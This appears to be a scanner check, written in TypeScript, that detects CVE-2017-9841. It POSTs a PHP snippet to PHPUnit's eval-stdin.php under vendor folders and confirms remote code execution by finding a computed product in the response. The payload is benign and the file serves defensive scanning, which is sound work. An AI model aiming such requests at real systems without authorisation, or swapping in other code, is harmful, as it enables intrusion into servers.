import {
  type KnownAttempt,
  type KnownExploited,
  proveKnownExploited,
} from '../../attacks/known-exploited.js';
import { operandsFrom } from '../../attacks/prove.js';
import { originOf } from '../../attacks/requests.js';
import type { ActiveCheck } from '../../check.js';
import type { ProbeRequest } from '../../exchange.js';
import { bodyText } from '../../page/message.js';

export const check: ActiveCheck = {
  id: 'phpunit-eval-stdin',
  mode: 'active',
  scope: 'host',
  places: [],
  writes: false,
  technologies: [],
  title: 'PHPUnit in the document root runs the body of a request',
  severity: 'critical',
  aliases: ['CVE-2017-9841', 'CWE-94'],
  cwe: 94,
  fix: 'Update PHPUnit, install without development packages, and keep vendor/ outside of the document root.',
  references: [
    'https://www.cve.org/CVERecord?id=CVE-2017-9841',
    'https://www.cisa.gov/known-exploited-vulnerabilities-catalog',
  ],
  cost: { low: 2, medium: 2, high: 2, insane: 2 },
  attack: (target, prober) => proveKnownExploited(target, prober, known),
};

const script = '/phpunit/phpunit/src/Util/PHP/eval-stdin.php';

/** What the script is meant to run it takes from its input, which for a web server is the body. A product is calculated. */
const known: KnownExploited = {
  affected: {
    purl: /^pkg:composer\/phpunit\/phpunit$/,
    ranges: [
      ['4.0.0', '4.8.28'],
      ['5.0.0', '5.6.3'],
    ],
  },
  attempts: ['/vendor', '/lib/vendor'].map(
    (folder): KnownAttempt => ({
      attack: (at, marker) => post(at, folder, `<?php echo ${sum(marker)};`),
      control: (at, marker) => post(at, folder, sum(marker)),
      shows: ({ response }, marker) => {
        const { product } = operandsFrom(marker);
        return response.status === 200 && bodyText(response).includes(product) ? product : undefined;
      },
    }),
  ),
};

function sum(marker: string): string {
  const { a, b } = operandsFrom(marker);
  return `${a}*${b}`;
}

function post(at: ProbeRequest, folder: string, code: string): ProbeRequest {
  const headers = [['Content-Type', 'text/plain']] as const;
  return { method: 'POST', url: originOf(at.url) + folder + script, headers, body: Buffer.from(code) };
}
